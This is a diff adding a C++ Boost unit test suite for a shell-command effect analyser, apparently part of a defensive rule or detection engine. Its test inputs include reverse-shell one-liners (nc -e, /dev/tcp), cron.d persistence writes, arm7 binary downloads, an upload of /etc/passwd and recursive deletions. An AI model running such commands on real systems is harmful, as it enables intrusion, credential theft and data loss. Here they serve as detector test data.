@@ -1,0 +1,95 @@
+#include "unit/shell/read_line.hpp"
+
+#include <boost/test/unit_test.hpp>
+
+BOOST_AUTO_TEST_SUITE(shell_effects)
+
+using namespace rulehost::shell;
+
+namespace {
+
+using paths = std::vector<std::string>;
+
+void check(std::string_view text, std::string_view program, effect_kind kind, paths const& expected) {
+    line_reading const line(text);
+    BOOST_TEST_CONTEXT(text)
+    BOOST_TEST(line.targets(program, kind) == expected, boost::test_tools::per_element());
+}
+
+} // namespace
+
+BOOST_AUTO_TEST_CASE(every_way_of_writing_a_file_is_one_effect) {
+    for (auto const& [text, program] : std::initializer_list<std::pair<std::string_view, std::string_view>>{
+             {"echo x > /etc/cron.d/a", "echo"},
+             {"echo x >> /etc/cron.d/a", "echo"},
+             {"echo x | tee /etc/cron.d/a", "tee"},
+             {"cp x /etc/cron.d/a", "cp"},
+             {"cp a /etc/cron.d/", "cp"},
+             {"cp -t /etc/cron.d a", "cp"},
+             {"mv x /etc/cron.d/a", "mv"},
+             {"install -m 755 x /etc/cron.d/a", "install"},
+             {"dd if=x of=/etc/cron.d/a", "dd"},
+             {"wget -O /etc/cron.d/a http://h/x", "wget"},
+             {"wget -P /etc/cron.d http://h/a", "wget"},
+             {"curl -o /etc/cron.d/a http://h/x", "curl"},
+             {"sed -i s/a/b/ /etc/cron.d/a", "sed"},
+             {"ln -s x /etc/cron.d/a", "ln"},
+             {"cd /etc; cd cron.d; wget http://h/a", "wget"},
+             {"sort x -o /etc/cron.d/a", "sort"},
+             {"(cat x) > /etc//cron.d/./a", "cat"}})
+        check(text, program, effect_kind::writes, {"/etc/cron.d/a"});
+}
+
+BOOST_AUTO_TEST_CASE(network_ends_have_host_port_and_path) {
+    check("curl https://u:p@h.example/a?b", "curl", effect_kind::connects, {"h.example:443/a?b"});
+    check("wget h/x", "wget", effect_kind::connects, {"h:80/x"});
+    check("nc -e /bin/sh 10.0.0.1 4444", "nc", effect_kind::connects, {"10.0.0.1:4444"});
+    check("ssh -p 2222 root@10.0.0.1 id", "ssh", effect_kind::connects, {"10.0.0.1:2222"});
+    check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash", effect_kind::connects, {"10.0.0.1:4444"});
+}
+
+BOOST_AUTO_TEST_CASE(fetched_file_is_written_under_its_name) {
+    check("wget http://h/bins/arm7?x=1", "wget", effect_kind::writes, {"arm7"});
+    check("curl -O http://h/arm7", "curl", effect_kind::writes, {"arm7"});
+    check("curl http://h/arm7", "curl", effect_kind::writes, {});
+    check("tftp -g -r arm7 10.0.0.1", "tftp", effect_kind::writes, {"arm7"});
+}
+
+BOOST_AUTO_TEST_CASE(chmod_makes_executable_only_where_it_gives_the_right) {
+    check("chmod 777 a b", "chmod", effect_kind::makes_executable, {"a", "b"});
+    check("chmod +x a", "chmod", effect_kind::makes_executable, {"a"});
+    check("chmod u+rwx a", "chmod", effect_kind::makes_executable, {"a"});
+    check("chmod 644 a", "chmod", effect_kind::makes_executable, {});
+    check("chmod -x a", "chmod", effect_kind::makes_executable, {});
+    check("install -m 755 a /tmp/b", "install", effect_kind::makes_executable, {"/tmp/b"});
+}
+
+BOOST_AUTO_TEST_CASE(path_or_script_is_run_a_name_is_not) {
+    check("./x", "x", effect_kind::runs, {"x"});
+    check("cd /tmp; ./x", "x", effect_kind::runs, {"/tmp/x"});
+    check("sh /tmp/x", "sh", effect_kind::runs, {"/tmp/x"});
+    check("wget", "wget", effect_kind::runs, {});
+    check("sh -c id", "sh", effect_kind::runs, {});
+}
+
+BOOST_AUTO_TEST_CASE(deletions_by_rm_and_find) {
+    check("rm -rf a b", "rm", effect_kind::deletes, {"a", "b"});
+    check("find /home -delete", "find", effect_kind::deletes, {"/home/*"});
+    check("find /home -name '*.log' -exec rm {} \\;", "find", effect_kind::deletes, {"/home/*.log"});
+    check("find /home -name x", "find", effect_kind::deletes, {});
+}
+
+BOOST_AUTO_TEST_CASE(uploads_are_sent) {
+    check("curl -F f=@/etc/passwd http://h/", "curl", effect_kind::sends, {"http://h/"});
+    check("curl -T x ftp://h/", "curl", effect_kind::sends, {"ftp://h/"});
+    check("scp x u@h:/tmp/", "scp", effect_kind::sends, {"u@h:/tmp/"});
+    check("scp u@h:/tmp/x .", "scp", effect_kind::fetches, {"u@h:/tmp/x"});
+}
+
+BOOST_AUTO_TEST_CASE(unknown_program_has_no_effects_but_its_redirects) {
+    check("frobnicate a b", "frobnicate", effect_kind::writes, {});
+    check("frobnicate a > b", "frobnicate", effect_kind::writes, {"b"});
+    check("frobnicate --out=/x /y", "frobnicate", effect_kind::names, {"/x", "/y"});
+}
+
+BOOST_AUTO_TEST_SUITE_END()
